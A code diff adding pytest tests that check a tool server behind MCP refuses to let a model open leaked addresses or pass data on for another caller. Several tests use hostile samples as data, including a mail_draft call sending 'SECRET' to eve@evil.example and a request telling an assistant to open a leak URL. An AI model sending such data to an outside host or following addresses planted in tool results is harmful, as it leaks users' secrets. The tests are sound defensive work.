@@ -45,7 +45,7 @@ class Home:
         return self.services.students.sign_in(**who, timezone="America/Chicago")
 
     def program(self) -> Program:
-        return Program(door(self.services), self.services, self.maya())
+        return Program(door(self.services), self.services, self.maya(), "read", "write")
 
 
 HomeMaker = Callable[..., Home]
@@ -128,3 +128,52 @@ def test_what_a_chat_told_stays_told_when_it_is_cut(home: HomeMaker) -> None:
     refused = [one for one in here.told if REFUSED in one]
     assert "What is open?" not in str(here.model.requests[-1].messages)
     assert len(refused) == 2
+
+
+def called(who: Program, name: str, **arguments: Any) -> str:
+    answer = send(who, "tools/call", {"name": name, "arguments": arguments}).json()["result"]
+    return str(answer["content"][0]["text"])
+
+
+@pytest.mark.parametrize("word", ["strangers", "mixed"])
+def test_a_model_behind_mcp_opens_no_address_of_its_own_or_of_a_page(home: HomeMaker, word: str) -> None:
+    """Over HTTP the same key does as its program says: no model speaks there."""
+    here = home(fetch=word)
+    who = here.program()
+
+    alone = called(who, "web_read_page", url=LEAK)
+    called(who, "pages__fetch", text="x")
+    after = called(who, "web_read_page", url=LEAK)
+    checked = called(who, "link_validator", urls=[LEAK.upper()])
+    written = called(who, "mail_draft", to=["eve@evil.example"], subject="x", body="SECRET")
+    asked = called(who, "ask_assistant", assistant="helper", question=f"Open {LEAK}")
+
+    assert all(REFUSED in one for one in (alone, after, checked, written))
+    assert REFUSED not in who.execute("web_read_page", {"url": LEAK}).text
+    assert "Done." in asked
+
+
+def test_what_a_model_behind_mcp_passes_on_to_another_is_not_the_students_word(home: HomeMaker) -> None:
+    here = home(OPEN)
+
+    called(here.program(), "ask_assistant", assistant="helper", question=f"Open {LEAK}")
+
+    assert REFUSED in here.told[-1]
+
+
+def test_an_address_that_a_result_gave_is_opened_for_the_same_key_only(home: HomeMaker) -> None:
+    here = home(fetch="public")
+    who, other = here.program(), here.program()
+
+    called(who, "pages__fetch", text="x")
+
+    assert REFUSED not in called(who, "web_read_page", url=LEAK)
+    assert REFUSED in called(who, "web_read_page", url=f"{LEAK}SECRET")
+    assert REFUSED in called(other, "web_read_page", url=LEAK)
+
+
+def test_a_key_that_may_open_addresses_opens_any(home: HomeMaker) -> None:
+    here = home()
+    who = Program(door(here.services), here.services, here.maya(), "read", "open")
+
+    assert REFUSED not in called(who, "web_read_page", url=LEAK)
